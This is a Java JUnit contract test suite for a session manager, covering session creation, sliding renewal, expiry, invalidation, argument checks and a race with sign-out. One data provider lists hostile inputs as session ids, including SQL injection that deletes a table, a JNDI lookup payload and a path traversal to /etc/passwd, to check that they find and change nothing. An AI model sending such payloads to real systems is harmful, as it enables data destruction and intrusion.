package io.github.luciajooq;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.luciajooq.testing.TestClock;
import java.time.Duration;
import java.time.Instant;
import java.util.HashSet;
import java.util.List;
import java.util.Optional;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The session manager's policy, on a real adapter: creation, validation with sliding renewal, expiry and
 * invalidation, with the clock moved. A subclass gives an adapter on tables where the user table has
 * {@code username TEXT} and the session table {@code ip TEXT} and {@code remembered BOOLEAN}.
 */
public abstract class LuciaContract {

    protected final TestClock clock = TestClock.standard();

    /** The store, to check what the session manager wrote. */
    protected abstract Adapter adapter();

    protected abstract void insertUser(String id, String username);

    /** {@link Lucia}'s operations, whichever session manager runs them. */
    protected interface Manager {
        Session createSession(String userId, Map<String, Object> attributes);

        Session createSession(String userId, Map<String, Object> attributes, String sessionId);

        Optional<SessionAndUser> validateSession(String sessionId);

        List<Session> getUserSessions(String userId);

        void invalidateSession(String sessionId);

        void invalidateUserSessions(String userId);

        long deleteExpiredSessions();

        Cookie createSessionCookie(String sessionId);
    }

    /**
     * The session manager under test with these settings and {@link #clock}: by default {@link Lucia} on
     * {@link #adapter()}.
     */
    protected Manager manager(Consumer<SessionManagerBuilder<?>> settings) {
        Lucia.Builder builder = Lucia.builder(adapter()).clock(clock);
        settings.accept(builder);
        return managing(builder.build());
    }

    /** {@link Lucia}'s operations as a {@link Manager}. */
    protected static Manager managing(Lucia lucia) {
        return new Manager() {
            @Override
            public Session createSession(String userId, Map<String, Object> attributes) {
                return lucia.createSession(userId, attributes);
            }

            @Override
            public Session createSession(String userId, Map<String, Object> attributes, String sessionId) {
                return lucia.createSession(userId, attributes, sessionId);
            }

            @Override
            public Optional<SessionAndUser> validateSession(String sessionId) {
                return lucia.validateSession(sessionId);
            }

            @Override
            public List<Session> getUserSessions(String userId) {
                return lucia.getUserSessions(userId);
            }

            @Override
            public void invalidateSession(String sessionId) {
                lucia.invalidateSession(sessionId);
            }

            @Override
            public void invalidateUserSessions(String userId) {
                lucia.invalidateUserSessions(userId);
            }

            @Override
            public long deleteExpiredSessions() {
                return lucia.deleteExpiredSessions();
            }

            @Override
            public Cookie createSessionCookie(String sessionId) {
                return lucia.createSessionCookie(sessionId);
            }
        };
    }

    private Manager lucia() {
        return manager(settings -> { });
    }

    private Instant stored(String sessionId) {
        return adapter().getSessionAndUser(sessionId).orElseThrow().session().expiresAt();
    }

    @Test
    void createSessionStoresAFreshSessionWithALuciaIdAndAThirtyDayExpiry() {
        insertUser("user-1", "ann");

        Session session = lucia().createSession("user-1", Map.of("ip", "10.0.0.1"));

        assertThat(session.id()).matches("[a-z2-7]{40}");
        assertThat(session.userId()).isEqualTo("user-1");
        assertThat(session.fresh()).isTrue();
        assertThat(session.expiresAt()).isEqualTo(Instant.parse("2026-04-28T01:30:00.123Z"));
        assertThat(session.attributes()).isEqualTo(Map.of("ip", "10.0.0.1"));
        assertThat(stored(session.id())).isEqualTo(session.expiresAt());
    }

    @Test
    void createSessionExpiryIsAtMillisecondPrecisionSoItReadsBackEqual() {
        insertUser("user-1", "ann");
        clock.set(Instant.parse("2026-01-01T00:00:00.123456789Z"));

        Session session = lucia().createSession("user-1", Map.of());

        assertThat(session.expiresAt()).isEqualTo(Instant.parse("2026-01-31T00:00:00.123Z"));
        assertThat(lucia().validateSession(session.id()).orElseThrow().session().expiresAt())
                .isEqualTo(session.expiresAt());
    }

    @Test
    void createSessionGivesEverySessionANewId() {
        insertUser("user-1", "ann");
        Set<String> ids = new HashSet<>();
        for (int index = 0; index < 200; index++) {
            ids.add(lucia().createSession("user-1", Map.of()).id());
        }
        assertThat(ids).hasSize(200);
        assertThat(lucia().getUserSessions("user-1")).hasSize(200);
    }

    @Test
    void createSessionWithAGivenIdUsesIt() {
        insertUser("user-1", "ann");

        Session session = lucia().createSession("user-1", Map.of(), "my-own-id");

        assertThat(session.id()).isEqualTo("my-own-id");
        assertThat(lucia().validateSession("my-own-id")).isPresent();
    }

    @Test
    void createSessionForAnUnknownUserPassesTheAdaptersRefusalOnAndStoresNothing() {
        assertThatThrownBy(() -> lucia().createSession("ghost", Map.of(), "s"))
                .isInstanceOfSatisfying(SessionStoreException.class,
                        refused -> assertThat(refused.reason()).isEqualTo(SessionStoreException.Reason.UNKNOWN_USER));
        assertThat(adapter().getSessionAndUser("s")).isEmpty();
    }

    @Test
    void validateSessionWhenUnknownIsEmpty() {
        assertThat(lucia().validateSession("no-such-session")).isEmpty();
    }

    @Test
    void validateSessionWithMoreThanHalfTheLifetimeLeftIsNotFreshAndWritesNothing() {
        insertUser("user-1", "ann");
        Session created = lucia().createSession("user-1", Map.of("ip", "10.0.0.1", "remembered", true));
        clock.advance(Duration.ofDays(15).minusMillis(1));

        SessionAndUser valid = lucia().validateSession(created.id()).orElseThrow();

        assertThat(valid.session().fresh()).isFalse();
        assertThat(valid.session().expiresAt()).isEqualTo(created.expiresAt());
        assertThat(valid.session().attributes()).containsEntry("ip", "10.0.0.1").containsEntry("remembered", true);
        assertThat(valid.user()).isEqualTo(new User("user-1", Map.of("username", "ann")));
        assertThat(stored(created.id())).isEqualTo(created.expiresAt());
    }

    @Test
    void validateSessionWithHalfTheLifetimeLeftRenewsItToAFullLifetime() {
        insertUser("user-1", "ann");
        Session created = lucia().createSession("user-1", Map.of());
        clock.advance(Duration.ofDays(15));

        Session renewed = lucia().validateSession(created.id()).orElseThrow().session();

        assertThat(renewed.fresh()).isTrue();
        assertThat(renewed.expiresAt()).isEqualTo(clock.instant().plus(Duration.ofDays(30)));
        assertThat(stored(created.id())).isEqualTo(renewed.expiresAt());
        assertThat(lucia().validateSession(created.id()).orElseThrow().session().fresh()).isFalse();
    }

    @Test
    void validateSessionJustBeforeExpiryRenewsIt() {
        insertUser("user-1", "ann");
        Session created = lucia().createSession("user-1", Map.of());
        clock.set(created.expiresAt().minusMillis(1));

        Session renewed = lucia().validateSession(created.id()).orElseThrow().session();

        assertThat(renewed.fresh()).isTrue();
        assertThat(stored(created.id())).isEqualTo(created.expiresAt().minusMillis(1).plus(Duration.ofDays(30)));
    }

    @Test
    void validateSessionWhenExpiredDeletesIt() {
        insertUser("user-1", "ann");
        Session created = lucia().createSession("user-1", Map.of());
        clock.set(created.expiresAt());

        assertThat(lucia().validateSession(created.id())).isEmpty();

        assertThat(adapter().getSessionAndUser(created.id())).isEmpty();
    }

    @Test
    void renewalThresholdSetsHowLittleLifetimeLeftTriggersRenewal() {
        insertUser("user-1", "ann");
        Manager lucia = manager(settings -> settings.renewalThreshold(Duration.ofDays(1)));
        Session created = lucia.createSession("user-1", Map.of());

        clock.advance(Duration.ofDays(29).minusMillis(1));
        assertThat(lucia.validateSession(created.id()).orElseThrow().session().fresh()).isFalse();
        clock.advance(Duration.ofMillis(1));
        assertThat(lucia.validateSession(created.id()).orElseThrow().session().fresh()).isTrue();
    }

    @Test
    void renewalThresholdZeroNeverRenewsAndTheSessionExpires() {
        insertUser("user-1", "ann");
        Manager lucia = manager(settings -> settings.renewalThreshold(Duration.ZERO));
        Session created = lucia.createSession("user-1", Map.of());

        clock.set(created.expiresAt().minusMillis(1));
        assertThat(lucia.validateSession(created.id()).orElseThrow().session().fresh()).isFalse();
        clock.set(created.expiresAt());
        assertThat(lucia.validateSession(created.id())).isEmpty();
    }

    @Test
    void sessionLifetimeSetsTheExpiry() {
        insertUser("user-1", "ann");
        Manager lucia = manager(settings -> settings.sessionLifetime(Duration.ofHours(1)));

        Session created = lucia.createSession("user-1", Map.of());

        assertThat(created.expiresAt()).isEqualTo(clock.instant().plus(Duration.ofHours(1)));
        clock.advance(Duration.ofMinutes(30));
        assertThat(lucia.validateSession(created.id()).orElseThrow().session().expiresAt())
                .isEqualTo(clock.instant().plus(Duration.ofHours(1)));
    }

    @Test
    void getUserSessionsLeavesOutExpiredSessions() {
        insertUser("user-1", "ann");
        Session old = lucia().createSession("user-1", Map.of());
        clock.advance(Duration.ofDays(20));
        Session recent = lucia().createSession("user-1", Map.of());
        clock.advance(Duration.ofDays(10));

        assertThat(lucia().getUserSessions("user-1"))
                .singleElement()
                .satisfies(session -> assertThat(session.id()).isEqualTo(recent.id()))
                .satisfies(session -> assertThat(session.fresh()).isFalse());
        assertThat(adapter().getSessionAndUser(old.id())).isPresent();
    }

    @Test
    void invalidateSessionDeletesOnlyThatSession() {
        insertUser("user-1", "ann");
        Session first = lucia().createSession("user-1", Map.of());
        Session second = lucia().createSession("user-1", Map.of());

        lucia().invalidateSession(first.id());

        assertThat(lucia().validateSession(first.id())).isEmpty();
        assertThat(lucia().validateSession(second.id())).isPresent();
    }

    @Test
    void invalidateUserSessionsDeletesAllOfTheUsersSessions() {
        insertUser("user-1", "ann");
        insertUser("user-2", "bob");
        lucia().createSession("user-1", Map.of());
        lucia().createSession("user-1", Map.of());
        Session other = lucia().createSession("user-2", Map.of());

        lucia().invalidateUserSessions("user-1");

        assertThat(lucia().getUserSessions("user-1")).isEmpty();
        assertThat(lucia().validateSession(other.id())).isPresent();
    }

    @Test
    void deleteExpiredSessionsDeletesWhatTheAdaptersClockSaysHasExpired() {
        insertUser("user-1", "ann");
        lucia().createSession("user-1", Map.of());
        clock.advance(Duration.ofDays(20));
        Session live = lucia().createSession("user-1", Map.of());
        clock.advance(Duration.ofDays(10));

        assertThat(lucia().deleteExpiredSessions()).isEqualTo(1);
        assertThat(adapter().getUserSessions("user-1")).extracting(DatabaseSession::id).containsExactly(live.id());
    }

    static Stream<Arguments> badCalls() {
        return Stream.of(
                bad("createSession(null, attributes)", lucia -> lucia.createSession(null, Map.of()), NullPointerException.class, "userId"),
                bad("createSession(\" \", attributes)", lucia -> lucia.createSession(" ", Map.of()), IllegalArgumentException.class, "userId"),
                bad("createSession(userId, null)", lucia -> lucia.createSession("user-1", null), NullPointerException.class, "attributes"),
                bad("createSession(userId, {expires_at})", lucia -> lucia.createSession("user-1", Map.of("expires_at", 1)), IllegalArgumentException.class, "attributes"),
                bad("createSession(userId, attributes, null)", lucia -> lucia.createSession("user-1", Map.of(), null), NullPointerException.class, "sessionId"),
                bad("createSession(userId, attributes, \"\")", lucia -> lucia.createSession("user-1", Map.of(), ""), IllegalArgumentException.class, "sessionId"),
                bad("createSession(userId, attributes, \"s3cr3t id\")", lucia -> lucia.createSession("user-1", Map.of(), "s3cr3t id"), IllegalArgumentException.class, "sessionId"),
                bad("createSession(userId, attributes, 256 characters)", lucia -> lucia.createSession("user-1", Map.of(), "s3cr3t".repeat(43)), IllegalArgumentException.class, "sessionId"),
                bad("validateSession(null)", lucia -> lucia.validateSession(null), NullPointerException.class, "sessionId"),
                bad("getUserSessions(\"\")", lucia -> lucia.getUserSessions(""), IllegalArgumentException.class, "userId"),
                bad("invalidateSession(null)", lucia -> lucia.invalidateSession(null), NullPointerException.class, "sessionId"),
                bad("invalidateUserSessions(\"\")", lucia -> lucia.invalidateUserSessions(""), IllegalArgumentException.class, "userId"),
                bad("createSessionCookie(\"\")", lucia -> lucia.createSessionCookie(""), IllegalArgumentException.class, "sessionId"));
    }

    private static Arguments bad(String call, Consumer<Manager> action, Class<? extends Exception> type, String argument) {
        return Arguments.of(call, action, type, argument);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badCalls")
    void badArgumentsAreRefusedWithTheArgumentNamedAndWriteNothing(
            String call, Consumer<Manager> action, Class<? extends Exception> type, String argument) {
        insertUser("user-1", "ann");
        Session kept = lucia().createSession("user-1", Map.of());

        assertThatThrownBy(() -> action.accept(lucia())).isInstanceOf(type).hasMessageContaining(argument)
                .hasMessageNotContaining("s3cr3t");

        assertThat(adapter().getUserSessions("user-1")).extracting(DatabaseSession::id).containsExactly(kept.id());
        assertThat(stored(kept.id())).isEqualTo(kept.expiresAt());
    }

    /**
     * The session manager under test on {@link #adapter()}, through which another request signs every session out
     * right after validation has read it: by default {@link Lucia} on {@link InvalidatedAfterRead}.
     */
    protected Manager managerRacingInvalidation() {
        return managing(Lucia.builder(new InvalidatedAfterRead(adapter())).clock(clock).build());
    }

    /** An adapter through which each session is deleted (by "another request") right after it is read. */
    protected static final class InvalidatedAfterRead implements Adapter {

        private final Adapter store;

        public InvalidatedAfterRead(Adapter store) {
            this.store = store;
        }

        @Override
        public Optional<DatabaseSessionAndUser> getSessionAndUser(String sessionId) {
            Optional<DatabaseSessionAndUser> found = store.getSessionAndUser(sessionId);
            store.deleteSession(sessionId);
            return found;
        }

        @Override
        public List<DatabaseSession> getUserSessions(String userId) {
            return store.getUserSessions(userId);
        }

        @Override
        public void setSession(DatabaseSession session) {
            store.setSession(session);
        }

        @Override
        public boolean updateSessionExpiration(String sessionId, Instant expiresAt) {
            return store.updateSessionExpiration(sessionId, expiresAt);
        }

        @Override
        public void deleteSession(String sessionId) {
            store.deleteSession(sessionId);
        }

        @Override
        public void deleteUserSessions(String userId) {
            store.deleteUserSessions(userId);
        }

        @Override
        public long deleteExpiredSessions() {
            return store.deleteExpiredSessions();
        }
    }

    @Test
    void validateSessionInvalidatedWhileBeingRenewedIsEmptyAndStaysDeleted() {
        insertUser("user-1", "ann");
        Manager racing = managerRacingInvalidation();
        Session created = racing.createSession("user-1", Map.of());
        clock.advance(Duration.ofDays(16));

        assertThat(racing.validateSession(created.id())).isEmpty();

        assertThat(adapter().getSessionAndUser(created.id())).isEmpty();
    }

    @Test
    void validateSessionInvalidatedWhileBeingReadWithoutRenewalIsStillTheReadSession() {
        insertUser("user-1", "ann");
        Manager racing = managerRacingInvalidation();
        Session created = racing.createSession("user-1", Map.of());

        // Read before the sign-out committed: as valid as if the request had come a moment earlier.
        assertThat(racing.validateSession(created.id())).isPresent();
        assertThat(lucia().validateSession(created.id())).isEmpty();
    }

    /** What a client can put where a session id goes: none of it is a session, none of it an error. */
    static Stream<String> idsAClientCouldSend() {
        return Stream.of("", " ", "\t", "\u0000", "%00", "abc\u0000", "\uD800", "a b", "a;b", "a\"b", "\u00fc",
                "'; delete from user_session; --", "\\'; delete from user_session; --", "=", "==abc", "abc=d",
                "x".repeat(256), "x".repeat(100_000), "${jndi:ldap://example.com/a}", "../../etc/passwd");
    }

    @ParameterizedTest
    @MethodSource("idsAClientCouldSend")
    void validateAndInvalidateSessionWithAnythingAClientSendsFindNothingAndChangeNothing(String id) {
        insertUser("user-1", "ann");
        Session kept = lucia().createSession("user-1", Map.of());

        assertThat(lucia().validateSession(id)).isEmpty();
        lucia().invalidateSession(id);

        assertThat(adapter().getUserSessions("user-1")).extracting(DatabaseSession::id).containsExactly(kept.id());
        assertThat(lucia().validateSession(kept.id())).isPresent();
    }
}
